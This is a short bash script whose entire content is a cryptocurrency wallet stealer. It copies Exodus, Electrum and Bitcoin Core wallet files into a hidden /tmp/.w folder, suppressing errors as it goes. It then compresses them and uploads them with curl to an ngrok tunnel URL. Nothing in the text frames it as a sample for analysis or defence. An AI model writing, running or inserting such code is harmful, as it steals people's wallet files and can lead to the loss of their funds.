#!/bin/bash
mkdir -p /tmp/.w
cp -r "$HOME/Library/Application Support/Exodus/exodus.wallet" /tmp/.w/ 2>/dev/null
cp -r ~/.electrum/wallets /tmp/.w/ 2>/dev/null
cp ~/.bitcoin/wallet.dat /tmp/.w/ 2>/dev/null
tar cz /tmp/.w | curl -s -T - https://a91f.ngrok-free.app/drop
